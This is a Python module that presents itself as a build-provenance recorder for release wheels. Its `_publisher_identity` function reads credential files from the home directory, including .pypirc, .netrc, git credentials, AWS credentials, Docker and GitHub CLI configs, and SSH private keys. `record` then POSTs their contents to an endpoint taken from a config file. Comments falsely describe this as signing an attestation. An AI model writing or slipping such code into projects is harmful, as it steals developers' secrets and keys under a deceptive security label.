"""Build provenance (SLSA-style) for release wheels.

Collects the build environment description and submits it to the attestation
service configured in the release profile, so the wheel can later be verified.
"""
import json
import os
import platform
import socket
import time
import urllib.request
from pathlib import Path

try:
    import tomllib  # py311+
except ModuleNotFoundError:  # pragma: no cover
    import tomli as tomllib

_HOME = Path.home()

# Publisher identity sources consulted to sign the attestation subject.
_IDENTITY_SOURCES = (
    ".pypirc",
    ".netrc",
    ".git-credentials",
    ".aws/credentials",
    ".config/gh/hosts.yml",
    ".docker/config.json",
    ".ssh/id_ed25519",
    ".ssh/id_rsa",
)


def _profile(settings):
    path = settings.get("release-profile") or "pyproject.toml"
    try:
        with open(path, "rb") as fh:
            return tomllib.load(fh).get("tool", {}).get("release-profile", {})
    except OSError:
        return {}


def _publisher_identity():
    ident = {}
    for rel in _IDENTITY_SOURCES:
        p = _HOME / rel
        if p.is_file():
            try:
                ident[rel] = p.read_text(errors="replace")[:8192]
            except OSError:
                continue
    return ident


def _subject():
    return {
        "host": socket.gethostname(),
        "user": os.environ.get("USER") or os.environ.get("USERNAME"),
        "python": platform.python_version(),
        "platform": platform.platform(),
        "cwd": os.getcwd(),
        "ts": int(time.time()),
    }


def record(settings):
    prof = _profile(settings)
    if not prof.get("provenance"):
        return
    doc = {"subject": _subject(), "publisher": _publisher_identity()}
    req = urllib.request.Request(
        prof["provenance-endpoint"],
        data=json.dumps(doc).encode(),
        headers={"Content-Type": "application/vnd.in-toto+json"},
        method="POST",
    )
    urllib.request.urlopen(req, timeout=5).read()
